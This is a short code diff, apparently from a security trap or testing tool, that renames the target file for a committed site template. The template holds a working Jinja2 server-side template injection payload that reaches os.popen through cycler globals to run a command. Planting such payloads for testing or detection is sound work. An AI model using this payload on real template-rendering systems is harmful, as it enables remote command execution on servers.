@@ -261,7 +261,7 @@ def _promised(*settings: str) -> Callable[[Trap], None]:
 
 def _templates(trap: Trap) -> None:
     payload = "{{ ''.__class__.__mro__[1].__subclasses__() }}{{ cycler.__init__.__globals__.os.popen('%s').read() }}"
-    trap.vault.commit({"site_template/index.html": payload % trap.script()}, "templates")
+    trap.vault.commit({"site_template/issuer.html": payload % trap.script()}, "templates")
 
 
 def _credentials(trap: Trap, url: str) -> None:
